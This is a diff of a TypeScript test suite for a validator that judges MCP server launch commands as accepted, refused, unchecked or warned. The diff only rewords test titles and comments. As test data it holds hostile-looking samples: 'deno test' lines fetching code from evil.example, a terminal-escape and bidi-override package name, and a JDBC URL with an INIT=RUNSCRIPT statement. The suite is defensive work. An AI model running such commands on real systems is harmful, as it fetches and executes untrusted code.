@@ -8,7 +8,7 @@ const codes = (command: readonly string[], env: Record<string, string> = {}) =>
   commandDangers(command, env).map((danger) => `${danger.severity} ${danger.code}`);
 const words = (line: string) => line.split(' ');
 
-describe('what a credential may not decide, for whoever stores it later would choose the code', () => {
+describe('what a credential must not decide, because whoever stores it later would choose the code', () => {
   const own = mcpReference(SERVER_ID, 'X');
   test.each([
     ['the script', ['node', own]],
@@ -29,7 +29,7 @@ describe('what a credential may not decide, for whoever stores it later would ch
     expect(refusalOf(commandDangers(command, {}))).not.toBeNull();
   });
 
-  test('an argument of the program is the program’s own business', () => {
+  test('an argument of the program itself is not judged', () => {
     expect(refusalOf(commandDangers(['node', '/opt/server.js', '--token', own], {}))).toBeNull();
     expect(refusalOf(commandDangers(['npx', '-y', 'demo@1.2.3', own], {}))).toBeNull();
   });
@@ -47,7 +47,7 @@ describe('what a credential may not decide, for whoever stores it later would ch
   });
 });
 
-describe('commands that are started as they are', () => {
+describe('commands that are accepted', () => {
   test.each([
     'npx -y demo-mcp@1.2.3 --flag value',
     'npx --yes @scope/demo@1.2.3-beta.1 -c x --call y',
@@ -326,14 +326,14 @@ describe('commands that are refused', () => {
     },
   );
 
-  test('a name that is no variable, and values that none can hold', () => {
+  test('an invalid variable name, and values that no variable can have', () => {
     expect(codes(['node', '/opt/server.js'], { 'A B': 'x' })).toEqual(['refuse bad_text']);
     expect(codes(['node', '/opt/server.js'], { A: '\0' })).toEqual(['refuse bad_text']);
     expect(codes(Array.from({ length: 300 }, () => 'x'))).toContain('refuse bad_text');
     expect(codes(['x', 'y'.repeat(5000)])).toContain('refuse bad_text');
   });
 
-  test('says which word, in text that a terminal can show', () => {
+  test('names the word, in text that is safe for a terminal', () => {
     const danger = refusalOf(commandDangers(['npx', '-y', 'evil\u001b[2J/x\u202e'], {}));
     expect(danger?.message).toMatch(/"evil\?\[2J\/x\?"/);
   });
@@ -341,9 +341,9 @@ describe('commands that are refused', () => {
 
 const NOBODY_CHECKED = ['unchecked unchecked_code'];
 
-describe('commands that nobody checked', () => {
+describe('commands with unchecked code', () => {
   test.each([
-    // programs that are no launcher known here, whatever they are
+    // programs that are not known launchers
     'my-server',
     '/opt/my-server --stdio',
     'R -e x',
@@ -461,7 +461,7 @@ describe('commands that nobody checked', () => {
     'lua5.4-static -e x',
     'npx5 -y demo@1.2.3',
     'uvx2 demo@1.2.3',
-    // known interpreters with words that are no script of a server
+    // known interpreters with words that are not a server's script
     'deno test https://evil.example/x.ts',
     'deno bench https://evil.example/x.ts',
     'deno check /tmp/x.ts',
@@ -568,19 +568,19 @@ describe('commands that nobody checked', () => {
     'ALLOWED_TOOLS ENABLED_TOOLSETS READ_ONLY MAX_ROWS REQUEST_TIMEOUT_MS CACHE_TTL WORKSPACE_ID TEAM_ID USER_EMAIL',
     'DB_PATH OBSIDIAN_VAULT_PATH PROJECT_DIR MEMORY_FILE_PATH LOG_FILE OUTPUT_DIR ALLOWED_DIRECTORIES DATA_DIR',
     'GOOGLE_APPLICATION_CREDENTIALS GOOGLE_CLIENT_SECRET AZURE_TENANT_ID SLACK_TEAM_ID NODE_AUTH_TOKEN KUBE_API_TOKEN',
-  ])('and variables that are data do not count: %s', (names) => {
+  ])('data variables do not count: %s', (names) => {
     for (const name of names.split(' ')) {
       const value = mcpReference(SERVER_ID, 'X');
       expect([name, codes(['node', '/opt/server.js'], { [name]: value })]).toEqual([name, []]);
     }
   });
 
-  test('a switch is data, whatever its name; a URL of Java with statements in it is not', () => {
+  test('a switch is data, whatever its name; a Java URL with statements in it is not', () => {
     expect(codes(['node', '/opt/server.js'], { SOMETHING_ODD: 'true', HTTPD_EXTRA: '3' })).toEqual([]);
     expect(codes(['node', '/opt/server.js'], { DATABASE_URL: 'jdbc:h2:mem:x;INIT=RUNSCRIPT' })).toEqual(NOBODY_CHECKED);
   });
 
-  test('no interpreter passes silently, under any version, suffix, path and case', () => {
+  test('no interpreter passes silently, in any version, suffix, path and letter case', () => {
     const interpreter = fc.constantFrom(
       ...'python pypy node nodejs deno bun ruby perl php lua luajit java julia guile elixir groovy tclsh rscript'.split(
         ' ',
@@ -635,7 +635,7 @@ describe('commands that nobody checked', () => {
     );
   });
 
-  test('no word that nobody knows passes silently as a program', () => {
+  test('no unknown word passes silently as a program', () => {
     const known =
       /^(?:npx|bunx|pnpx|npm|pnpm|yarn|uvx|uv|pipx|dnx|dotnet|go|nix|cargo|docker|podman|nerdctl|finch|[a-z-]*(?:node|nodejs|tsx|ts-node|ts-node-esm|bun|deno|python|pypy|py|perl|ruby|php|java|lua|luajit|rscript|julia|tclsh|guile|elixir|groovy)[\d.]*)$/;
     fc.assert(
@@ -649,7 +649,7 @@ describe('commands that nobody checked', () => {
   });
 });
 
-describe('commands that are told about', () => {
+describe('commands with a warning', () => {
   test.each([
     ['unpinned_version', 'npx -y demo'],
     ['unpinned_version', 'npx -y demo@latest'],
@@ -679,7 +679,7 @@ describe('commands that are told about', () => {
   });
 });
 
-describe('whatever the words are', () => {
+describe('for any words', () => {
   const word = fc.oneof(
     fc.string(),
     fc.constantFrom(
@@ -702,7 +702,7 @@ describe('whatever the words are', () => {
     ),
   );
 
-  test('an answer comes, and a shell or code in an argument is not let through', () => {
+  test('an answer comes, and a shell or code in an argument is refused', () => {
     fc.assert(
       fc.property(fc.array(word, { maxLength: 12 }), fc.dictionary(fc.string(), fc.string()), (command, env) => {
         expect(commandDangers(command, env)).toBeInstanceOf(Array);
